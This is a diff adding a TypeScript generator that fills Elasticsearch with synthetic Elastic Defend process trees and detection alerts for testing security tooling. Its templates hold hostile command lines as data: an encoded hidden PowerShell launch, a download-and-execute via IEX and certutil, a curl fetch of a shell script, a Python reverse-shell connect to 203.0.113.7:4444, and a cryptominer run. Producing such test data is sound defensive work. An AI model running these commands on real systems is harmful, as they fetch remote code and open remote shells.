@@ -0,0 +1,754 @@
+/**
+ * Process trees
+ * Elastic Defend (endpoint) process trees that the analyzer (resolver) and session view can
+ * render: every process has an entity ID, its parent's entity ID and its ancestry, and causes
+ * related network, file and registry events. The last process of each attack chain raises an
+ * endpoint alert, which the Endpoint Security rule turns into a detection alert pointing back
+ * at it.
+ *
+ * Linux trees also carry the session fields session view reads (entry, session and group
+ * leaders, TTY, interactive), starting at the process marked as the entry leader.
+ */
+
+import { faker } from '@faker-js/faker';
+import createAlerts from '../../generators/create_alerts.ts';
+import { getElasticAgentVersion } from '../org_data/integrations/base_integration.ts';
+import { type BulkOperationTuple, adaptiveBulkIngest } from '../shared/elasticsearch.ts';
+import { createProgressBar } from '../utils/cli_utils.ts';
+import { addMetadataToDoc } from '../../utils/doc_metadata.ts';
+import { getAlertIndex } from '../../utils/index.ts';
+import { getEventTime } from '../../utils/time_context.ts';
+import { log } from '../../utils/logger.ts';
+
+export const PROCESS_TREE_OS = ['windows', 'linux', 'macos'] as const;
+export type ProcessTreeOs = (typeof PROCESS_TREE_OS)[number];
+
+export interface ProcessTreeOptions {
+  trees: number;
+  hosts: number;
+  /** Operating systems to build trees for (default: all) */
+  os: ProcessTreeOs[];
+  /** Space whose alerts index gets the detection alerts */
+  space: string;
+  maxDocsPerSecond?: number;
+}
+
+interface ProcessStep {
+  name: string;
+  executable: string;
+  args: string[];
+  /** Runs as SYSTEM/root rather than the logged-in user */
+  system?: boolean;
+  /** Session view entry leader: every process from here down belongs to its session */
+  entry?: 'sshd' | 'init';
+  network?: { ip: string; port: number };
+  file?: string;
+  registry?: { path: string; value: string };
+  /** Processes started on the side before the next step of the chain, e.g. a download */
+  spawns?: ProcessStep[];
+}
+
+interface TreeTemplate {
+  os: ProcessTreeOs;
+  /** From a long-running system process down to the process that is detected */
+  chain: ProcessStep[];
+  alert: {
+    code: 'behavior' | 'malicious_file';
+    ruleName: string;
+    severity: 'medium' | 'high' | 'critical';
+    tactic: string;
+  };
+}
+
+const TREE_TEMPLATES: TreeTemplate[] = [
+  {
+    os: 'windows',
+    chain: [
+      { name: 'explorer.exe', executable: 'C:\\Windows\\explorer.exe', args: [] },
+      {
+        name: 'WINWORD.EXE',
+        executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+        args: ['/n', 'C:\\Users\\%USER%\\Downloads\\Invoice_4821.docm'],
+      },
+      {
+        name: 'cmd.exe',
+        executable: 'C:\\Windows\\System32\\cmd.exe',
+        args: [
+          '/c',
+          'powershell',
+          '-nop',
+          '-w',
+          'hidden',
+          '-enc',
+          'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
+        ],
+      },
+      {
+        name: 'powershell.exe',
+        executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+        args: ['-nop', '-w', 'hidden', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'],
+        network: { ip: '203.0.113.45', port: 443 },
+        file: 'C:\\Users\\%USER%\\AppData\\Roaming\\update.dll',
+      },
+      {
+        name: 'rundll32.exe',
+        executable: 'C:\\Windows\\System32\\rundll32.exe',
+        args: ['C:\\Users\\%USER%\\AppData\\Roaming\\update.dll,DllRegisterServer'],
+        network: { ip: '198.51.100.23', port: 8443 },
+        registry: {
+          path: 'HKEY_USERS\\%SID%\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
+          value: 'Updater',
+        },
+      },
+    ],
+    alert: {
+      code: 'behavior',
+      ruleName: 'RunDLL32 Execution of a DLL from AppData',
+      severity: 'high',
+      tactic: 'Defense Evasion',
+    },
+  },
+  {
+    os: 'windows',
+    chain: [
+      {
+        name: 'services.exe',
+        executable: 'C:\\Windows\\System32\\services.exe',
+        args: [],
+        system: true,
+      },
+      {
+        name: 'svchost.exe',
+        executable: 'C:\\Windows\\System32\\svchost.exe',
+        args: ['-k', 'DcomLaunch', '-p'],
+        system: true,
+      },
+      {
+        name: 'WmiPrvSE.exe',
+        executable: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
+        args: ['-Embedding'],
+        system: true,
+      },
+      {
+        name: 'powershell.exe',
+        executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+        args: ['-c', "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a.ps1')"],
+        network: { ip: '203.0.113.80', port: 80 },
+      },
+      {
+        name: 'certutil.exe',
+        executable: 'C:\\Windows\\System32\\certutil.exe',
+        args: [
+          '-urlcache',
+          '-split',
+          '-f',
+          'http://203.0.113.80/a.exe',
+          'C:\\Windows\\Temp\\a.exe',
+        ],
+        network: { ip: '203.0.113.80', port: 80 },
+        file: 'C:\\Windows\\Temp\\a.exe',
+      },
+    ],
+    alert: {
+      code: 'behavior',
+      ruleName: 'Remote File Download via Certutil from a WMI Child Process',
+      severity: 'high',
+      tactic: 'Command and Control',
+    },
+  },
+  {
+    os: 'linux',
+    chain: [
+      { name: 'systemd', executable: '/usr/lib/systemd/systemd', args: ['--system'], system: true },
+      { name: 'sshd', executable: '/usr/sbin/sshd', args: ['-D'], system: true },
+      { name: 'sshd', executable: '/usr/sbin/sshd', args: ['-D', '-R'], system: true },
+      {
+        name: 'bash',
+        executable: '/usr/bin/bash',
+        args: ['-bash'],
+        entry: 'sshd',
+        spawns: [
+          {
+            name: 'curl',
+            executable: '/usr/bin/curl',
+            args: ['-s', 'http://203.0.113.7/install.sh', '-o', '/tmp/.x.sh'],
+            network: { ip: '203.0.113.7', port: 80 },
+            file: '/tmp/.x.sh',
+          },
+        ],
+      },
+      { name: 'sh', executable: '/usr/bin/sh', args: ['/tmp/.x.sh'] },
+      {
+        name: 'python3',
+        executable: '/usr/bin/python3.10',
+        args: ['-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444))'],
+        network: { ip: '203.0.113.7', port: 4444 },
+      },
+    ],
+    alert: {
+      code: 'behavior',
+      ruleName: 'Reverse Shell via Python',
+      severity: 'critical',
+      tactic: 'Execution',
+    },
+  },
+  {
+    os: 'linux',
+    chain: [
+      {
+        name: 'systemd',
+        executable: '/usr/lib/systemd/systemd',
+        args: ['--system'],
+        system: true,
+        entry: 'init',
+      },
+      { name: 'cron', executable: '/usr/sbin/cron', args: ['-f'], system: true },
+      { name: 'cron', executable: '/usr/sbin/cron', args: ['-f'], system: true },
+      {
+        name: 'sh',
+        executable: '/usr/bin/sh',
+        args: ['-c', '/tmp/.cache/kworker -o pool.example.net:3333'],
+      },
+      {
+        name: 'kworker',
+        executable: '/tmp/.cache/kworker',
+        args: ['-o', 'pool.example.net:3333'],
+        network: { ip: '198.51.100.99', port: 3333 },
+      },
+    ],
+    alert: {
+      code: 'malicious_file',
+      ruleName: 'Cryptominer Executed from a Hidden Directory',
+      severity: 'high',
+      tactic: 'Impact',
+    },
+  },
+  {
+    os: 'macos',
+    chain: [
+      { name: 'launchd', executable: '/sbin/launchd', args: [], system: true },
+      {
+        name: 'Terminal',
+        executable: '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal',
+        args: [],
+      },
+      { name: 'login', executable: '/usr/bin/login', args: ['-pf', '%USER%'], system: true },
+      {
+        name: 'zsh',
+        executable: '/bin/zsh',
+        args: ['-zsh'],
+        spawns: [
+          {
+            name: 'curl',
+            executable: '/usr/bin/curl',
+            args: ['-sL', 'http://203.0.113.12/agent', '-o', '/tmp/.agent'],
+            network: { ip: '203.0.113.12', port: 80 },
+            file: '/tmp/.agent',
+          },
+          { name: 'chmod', executable: '/bin/chmod', args: ['+x', '/tmp/.agent'] },
+        ],
+      },
+      {
+        name: '.agent',
+        executable: '/tmp/.agent',
+        args: [],
+        network: { ip: '203.0.113.12', port: 443 },
+      },
+    ],
+    alert: {
+      code: 'malicious_file',
+      ruleName: 'Unsigned Binary Executed from a Temporary Directory',
+      severity: 'high',
+      tactic: 'Execution',
+    },
+  },
+];
+
+/** Benign short-lived children that make the trees branch, per OS. */
+const NOISE: Record<ProcessTreeOs, ProcessStep[]> = {
+  windows: [
+    {
+      name: 'conhost.exe',
+      executable: 'C:\\Windows\\System32\\conhost.exe',
+      args: ['0xffffffff', '-ForceV1'],
+    },
+    { name: 'WerFault.exe', executable: 'C:\\Windows\\System32\\WerFault.exe', args: ['-u'] },
+    { name: 'whoami.exe', executable: 'C:\\Windows\\System32\\whoami.exe', args: ['/all'] },
+  ],
+  linux: [
+    { name: 'id', executable: '/usr/bin/id', args: [] },
+    { name: 'uname', executable: '/usr/bin/uname', args: ['-a'] },
+    { name: 'ls', executable: '/usr/bin/ls', args: ['-la', '/tmp'] },
+  ],
+  macos: [
+    { name: 'sw_vers', executable: '/usr/bin/sw_vers', args: [] },
+    { name: 'id', executable: '/usr/bin/id', args: [] },
+    { name: 'ls', executable: '/bin/ls', args: ['-la', '/tmp'] },
+  ],
+};
+
+const HOST_OS: Record<ProcessTreeOs, Record<string, string>> = {
+  windows: {
+    type: 'windows',
+    name: 'Windows',
+    family: 'windows',
+    platform: 'windows',
+    version: '10.0.22631',
+  },
+  linux: {
+    type: 'linux',
+    name: 'Ubuntu',
+    family: 'ubuntu',
+    platform: 'ubuntu',
+    version: '22.04.3',
+  },
+  macos: {
+    type: 'macos',
+    name: 'macOS',
+    family: 'macos',
+    platform: 'macos',
+    version: '14.2.1',
+  },
+};
+
+const SYSTEM_USER: Record<ProcessTreeOs, string> = {
+  windows: 'SYSTEM',
+  linux: 'root',
+  macos: 'root',
+};
+
+const SHELLS = ['bash', 'sh', 'zsh', 'cmd.exe', 'powershell.exe'];
+const MAX_NOISE_CHILDREN = 2;
+const SECOND_MS = 1000;
+const MINUTE_MS = 60 * SECOND_MS;
+
+/** The prebuilt rule that promotes endpoint alerts to detection alerts. */
+const ENDPOINT_RULE = {
+  name: 'Endpoint Security (Elastic Defend)',
+  ruleId: '9a1a2dae-0b5f-4c3d-8305-a268d404c306',
+  query: 'event.kind:alert and event.module:(endpoint and not endgame)',
+  index: ['logs-endpoint.alerts-*'],
+};
+
+interface TreeHost {
+  name: string;
+  id: string;
+  agentId: string;
+  os: ProcessTreeOs;
+  userName: string;
+  userId: string;
+  nextPid: number;
+}
+
+interface ProcessNode {
+  step: ProcessStep;
+  entityId: string;
+  pid: number;
+  start: number;
+  end?: number;
+  user: { name: string; id: string };
+  parent?: ProcessNode;
+  entryLeader?: ProcessNode;
+  groupLeader?: ProcessNode;
+  tty?: number;
+}
+
+const fill = (value: string, host: TreeHost): string =>
+  value.replace('%USER%', host.userName).replace('%SID%', host.userId);
+
+const withPrefix = (prefix: string, fields: Record<string, unknown>): Record<string, unknown> =>
+  Object.fromEntries(
+    Object.entries(fields)
+      .filter(([, value]) => value !== undefined)
+      .map(([field, value]) => [`${prefix}.${field}`, value]),
+  );
+
+const describeProcess = (node: ProcessNode, host: TreeHost): Record<string, unknown> => {
+  const args = [fill(node.step.executable, host), ...node.step.args.map((arg) => fill(arg, host))];
+  return {
+    entity_id: node.entityId,
+    pid: node.pid,
+    name: node.step.name,
+    executable: args[0],
+    args,
+    args_count: args.length,
+    command_line: args.join(' '),
+    start: new Date(node.start).toISOString(),
+  };
+};
+
+/** The leader fields session view reads; only processes in an entry leader's session have them. */
+const getSessionFields = (node: ProcessNode, host: TreeHost): Record<string, unknown> => {
+  const { entryLeader, groupLeader } = node;
+  if (!entryLeader || !groupLeader) {
+    return {};
+  }
+  const leader = (prefix: string, leaderNode: ProcessNode) => ({
+    ...withPrefix(prefix, describeProcess(leaderNode, host)),
+    [`${prefix}.same_as_process`]: leaderNode === node,
+    [`${prefix}.user.name`]: leaderNode.user.name,
+    [`${prefix}.user.id`]: leaderNode.user.id,
+  });
+  const interactive = node.tty !== undefined;
+  return {
+    ...leader('process.entry_leader', entryLeader),
+    'process.entry_leader.entry_meta.type': entryLeader.step.entry,
+    // A login shell leads its own session
+    ...leader('process.session_leader', entryLeader),
+    ...leader('process.group_leader', groupLeader),
+    'process.interactive': interactive,
+    ...(interactive && {
+      'process.tty.char_device.major': 136,
+      'process.tty.char_device.minor': node.tty,
+    }),
+  };
+};
+
+const getProcessFields = (node: ProcessNode, host: TreeHost): Record<string, unknown> => {
+  const ancestry: string[] = [];
+  for (let ancestor = node.parent; ancestor; ancestor = ancestor.parent) {
+    ancestry.push(ancestor.entityId);
+  }
+  return {
+    ...withPrefix('process', describeProcess(node, host)),
+    'process.working_directory':
+      host.os === 'windows' ? `C:\\Users\\${host.userName}` : `/home/${host.userName}`,
+    ...(node.parent && withPrefix('process.parent', describeProcess(node.parent, host))),
+    'process.Ext.ancestry': ancestry,
+    'process.user.name': node.user.name,
+    'process.user.id': node.user.id,
+    ...getSessionFields(node, host),
+  };
+};
+
+/** What every event of a process carries: agent, host, user and the process itself. */
+const getProcessContext = (node: ProcessNode, host: TreeHost): Record<string, unknown> => ({
+  'agent.type': 'endpoint',
+  'agent.id': host.agentId,
+  'agent.version': getElasticAgentVersion(),
+  'host.name': host.name,
+  'host.hostname': host.name,
+  'host.id': host.id,
+  ...withPrefix('host.os', HOST_OS[host.os]),
+  'user.name': node.user.name,
+  'user.id': node.user.id,
+  'ecs.version': '8.11.0',
+  ...getProcessFields(node, host),
+});
+
+const createEvent = (
+  category: 'process' | 'network' | 'file' | 'registry',
+  node: ProcessNode,
+  host: TreeHost,
+  timestamp: number,
+  fields: Record<string, unknown>,
+): BulkOperationTuple => {
+  const dataset = `endpoint.events.${category}`;
+  const id = faker.string.uuid();
+  return [
+    { create: { _index: `logs-${dataset}-default`, _id: id } },
+    addMetadataToDoc({
+      '@timestamp': new Date(timestamp).toISOString(),
+      'event.id': id,
+      'event.kind': 'event',
+      'event.category': [category],
+      'event.dataset': dataset,
+      'event.module': 'endpoint',
+      'data_stream.type': 'logs',
+      'data_stream.dataset': dataset,
+      'data_stream.namespace': 'default',
+      ...getProcessContext(node, host),
+      ...fields,
+    }),
+  ];
+};
+
+/** The start (and for short-lived processes, end) events plus whatever the process caused. */
+const getNodeEvents = (node: ProcessNode, host: TreeHost): BulkOperationTuple[] => {
+  const { step } = node;
+  const start = host.os === 'windows' ? 'start' : 'exec';
+  const events = [
+    createEvent('process', node, host, node.start, {
+      'event.type': ['start'],
+      'event.action': start,
+    }),
+  ];
+  const later = () => node.start + faker.number.int({ min: SECOND_MS, max: 20 * SECOND_MS });
+  if (step.network) {
+    events.push(
+      createEvent('network', node, host, later(), {
+        'event.type': ['start', 'connection'],
+        'event.action': 'connection_attempted',
+        'network.transport': 'tcp',
+        'network.direction': 'egress',
+        'destination.ip': step.network.ip,
+        'destination.port': step.network.port,
+        'source.port': faker.internet.port(),
+      }),
+    );
+  }
+  if (step.file) {
+    const path = fill(step.file, host);
+    events.push(
+      createEvent('file', node, host, later(), {
+        'event.type': ['creation'],
+        'event.action': 'creation',
+        'file.path': path,
+        'file.name': path.split(/[\\/]/).pop(),
+      }),
+    );
+  }
+  if (step.registry) {
+    events.push(
+      createEvent('registry', node, host, later(), {
+        'event.type': ['change'],
+        'event.action': 'modification',
+        'registry.path': fill(step.registry.path, host),
+        'registry.value': step.registry.value,
+        'registry.data.strings': [describeProcess(node, host).command_line],
+      }),
+    );
+  }
+  if (node.end !== undefined) {
+    events.push(
+      createEvent('process', node, host, node.end, {
+        'event.type': ['end'],
+        'event.action': 'end',
+        'process.exit_code': 0,
+        'process.end': new Date(node.end).toISOString(),
+      }),
+    );
+  }
+  return events;
+};
+
+const createNode = (
+  step: ProcessStep,
+  host: TreeHost,
+  start: number,
+  parent?: ProcessNode,
+): ProcessNode => {
+  host.nextPid += faker.number.int({ min: 1, max: 40 });
+  // launchd and systemd are PID 1; Windows trees start at a user or service process
+  const pid = parent || host.os === 'windows' ? host.nextPid : 1;
+  const user = step.system
+    ? { name: SYSTEM_USER[host.os], id: host.os === 'windows' ? 'S-1-5-18' : '0' }
+    : { name: host.userName, id: host.userId };
+  const node: ProcessNode = {
+    step,
+    // Elastic Defend derives entity IDs from the agent, PID and start time
+    entityId: Buffer.from(`${host.agentId}-${pid}-${start}`).toString('base64'),
+    pid,
+    start,
+    user,
+    parent,
+  };
+  if (host.os === 'linux') {
+    node.entryLeader = step.entry ? node : parent?.entryLeader;
+    const inShell = parent !== undefined && SHELLS.includes(parent.step.name);
+    node.groupLeader = node.entryLeader && (inShell || step.entry ? node : parent?.groupLeader);
+    if (node.entryLeader && node.entryLeader.step.entry !== 'init') {
+      node.tty = node.entryLeader.tty ?? faker.number.int({ min: 0, max: 9 });
+    }
+  }
+  return node;
+};
+
+/**
+ * One tree: the chain down to the detected process, side processes and benign children, the
+ * endpoint alert on the last process and the detection alert promoted from it.
+ */
+const createTree = (
+  template: TreeTemplate,
+  host: TreeHost,
+  space: string,
+  ruleUuid: string,
+): BulkOperationTuple[] => {
+  // The Endpoint Security rule runs every five minutes, so it promotes the alert a little later
+  const detectedAt = getEventTime();
+  const alertTime = detectedAt - faker.number.int({ min: 5 * SECOND_MS, max: 5 * MINUTE_MS });
+  // Work back from the detected process: steps seconds to minutes apart, the root days earlier
+  const starts: number[] = [];
+  let time = alertTime - faker.number.int({ min: SECOND_MS, max: 30 * SECOND_MS });
+  for (let i = template.chain.length - 1; i >= 0; i--) {
+    starts[i] = time;
+    time -=
+      i === 1
+        ? faker.number.int({ min: 1, max: 5 }) * 24 * 60 * MINUTE_MS
+        : faker.number.int({ min: 2 * SECOND_MS, max: 10 * MINUTE_MS });
+  }
+
+  const operations: BulkOperationTuple[] = [];
+  let parent: ProcessNode | undefined;
+  for (const [i, step] of template.chain.entries()) {
+    const node = createNode(step, host, starts[i], parent);
+    operations.push(...getNodeEvents(node, host));
+    const nextStart = starts[i + 1] ?? alertTime;
+    const sideSteps = [
+      ...(step.spawns ?? []),
+      ...(i > 0
+        ? faker.helpers.arrayElements(NOISE[host.os], { min: 0, max: MAX_NOISE_CHILDREN })
+        : []),
+    ];
+    for (const sideStep of sideSteps) {
+      const start = faker.number.int({ min: node.start, max: Math.max(node.start, nextStart - 1) });
+      const child = createNode(sideStep, host, start, node);
+      child.end = start + faker.number.int({ min: 50, max: 5 * SECOND_MS });
+      operations.push(...getNodeEvents(child, host));
+    }
+    parent = node;
+  }
+
+  const leaf = parent as ProcessNode;
+  const { alert } = template;
+  const message = `${alert.code === 'behavior' ? 'Malicious Behavior' : 'Malware'} Detection Alert: ${alert.ruleName}`;
+  const endpointAlertId = faker.string.uuid();
+  const endpointAlert: Record<string, unknown> = {
+    '@timestamp': new Date(alertTime).toISOString(),
+    'event.id': endpointAlertId,
+    'event.kind': 'alert',
+    'event.category':
+      alert.code === 'behavior'
+        ? ['malware', 'intrusion_detection', 'process']
+        : ['malware', 'intrusion_detection', 'file'],
+    'event.type': ['info', 'allowed'],
+    'event.action': 'rule_detection',
+    'event.code': alert.code,
+    'event.outcome': 'success',
+    'event.severity': alert.severity === 'critical' ? 99 : 73,
+    'event.dataset': 'endpoint.alerts',
+    'event.module': 'endpoint',
+    message,
+    'rule.name': alert.ruleName,
+    'rule.id': faker.string.uuid(),
+    'rule.ruleset': 'production',
+    'threat.tactic.name': [alert.tactic],
+    'Endpoint.policy.applied.name': 'Protect',
+  };
+  const sourceFields = addMetadataToDoc(getProcessContext(leaf, host));
+  operations.push([
+    { create: { _index: 'logs-endpoint.alerts-default', _id: endpointAlertId } },
+    {
+      ...sourceFields,
+      ...endpointAlert,
+      'data_stream.type': 'logs',
+      'data_stream.dataset': 'endpoint.alerts',
+      'data_stream.namespace': 'default',
+    },
+  ]);
+
+  const riskScore = alert.severity === 'critical' ? 99 : 73;
+  const base = createAlerts(
+    {},
+    {
+      hostName: host.name,
+      userName: leaf.user.name,
+      hostId: host.id,
+      space,
+      timestamp: detectedAt,
+    },
+  );
+  const detectionAlert = {
+    ...base,
+    ...sourceFields,
+    'kibana.alert.rule.name': ENDPOINT_RULE.name,
+    'kibana.alert.rule.rule_id': ENDPOINT_RULE.ruleId,
+    'kibana.alert.rule.uuid': ruleUuid,
+    'kibana.alert.rule.indices': ENDPOINT_RULE.index,
+    'kibana.alert.rule.description':
+      'Generates a detection alert each time an Elastic Defend alert is received.',
+    'kibana.alert.rule.parameters': {
+      ...base['kibana.alert.rule.parameters'],
+      rule_id: ENDPOINT_RULE.ruleId,
+      query: ENDPOINT_RULE.query,
+      index: ENDPOINT_RULE.index,
+      severity: alert.severity,
+      risk_score: riskScore,
+    },
+    'kibana.alert.severity': alert.severity,
+    'kibana.alert.risk_score': riskScore,
+    'kibana.alert.reason': `${message} on ${host.name} by ${leaf.user.name} (${leaf.step.name})`,
+    'kibana.alert.original_time': endpointAlert['@timestamp'],
+    ...Object.fromEntries(
+      Object.entries(endpointAlert)
+        .filter(([field]) => field.startsWith('event.'))
+        .map(([field, value]) => [`kibana.alert.original_${field}`, value]),
+    ),
+    'kibana.alert.ancestors': [
+      { id: endpointAlertId, type: 'event', index: 'logs-endpoint.alerts-default', depth: 0 },
+    ],
+    'kibana.alert.depth': 1,
+    message,
+    'rule.name': alert.ruleName,
+  };
+  operations.push([
+    { create: { _index: getAlertIndex(space), _id: detectionAlert['kibana.alert.uuid'] } },
+    detectionAlert,
+  ]);
+  return operations;
+};
+
+const createHosts = (count: number, os: ProcessTreeOs[]): TreeHost[] =>
+  Array.from({ length: count }, (_, i) => {
+    const hostOs = os[i % os.length];
+    const userName = faker.internet
+      .username()
+      .toLowerCase()
+      .replace(/[^a-z0-9_]/g, '');
+    return {
+      name: `${faker.word.noun().toLowerCase()}-${hostOs === 'windows' ? 'win' : hostOs}-${i + 1}`,
+      id: faker.string.uuid(),
+      agentId: faker.string.uuid(),
+      os: hostOs,
+      userName,
+      userId:
+        hostOs === 'windows'
+          ? `S-1-5-21-${faker.number.int({ min: 1e9, max: 4e9 })}-${faker.number.int({ min: 1000, max: 9999 })}`
+          : String(faker.number.int({ min: 1000, max: 1999 })),
+      nextPid: hostOs === 'windows' ? 600 : 300,
+    };
+  });
+
+export const generateProcessTrees = async ({
+  trees,
+  hosts: hostCount,
+  os,
+  space,
+  maxDocsPerSecond,
+}: ProcessTreeOptions): Promise<void> => {
+  // At least one host per operating system, as far as there are trees for them
+  const hosts = createHosts(Math.max(hostCount, Math.min(os.length, trees)), os);
+  log.info(
+    `Generating ${trees} process tree(s) on ${hosts.length} host(s) (${[...new Set(hosts.map((host) => host.os))].join(', ')}) with alerts in space ${space}`,
+  );
+  const ruleUuid = faker.string.uuid();
+
+  let total = 0;
+  const progress = createProgressBar('process trees', {
+    format: '{bar} | {percentage}% | {value}/{total} docs',
+  });
+  function* operations(): Generator<BulkOperationTuple> {
+    for (let i = 0; i < trees; i++) {
+      const host = hosts[i % hosts.length];
+      const template = faker.helpers.arrayElement(
+        TREE_TEMPLATES.filter((candidate) => candidate.os === host.os),
+      );
+      const treeOperations = createTree(template, host, space, ruleUuid);
+      total += treeOperations.length;
+      progress.setTotal(total);
+      yield* treeOperations;
+    }
+  }
+
+  progress.start(0, 0);
+  await adaptiveBulkIngest({
+    label: 'process trees',
+    operations: operations(),
+    maxDocsPerSecond,
+    onProgress: (documents) => progress.increment(documents),
+  });
+  progress.stop();
+  log.info(
+    `Open an alert from the "${ENDPOINT_RULE.name}" rule in space ${space} and choose "Analyze event" to see its tree`,
+  );
+};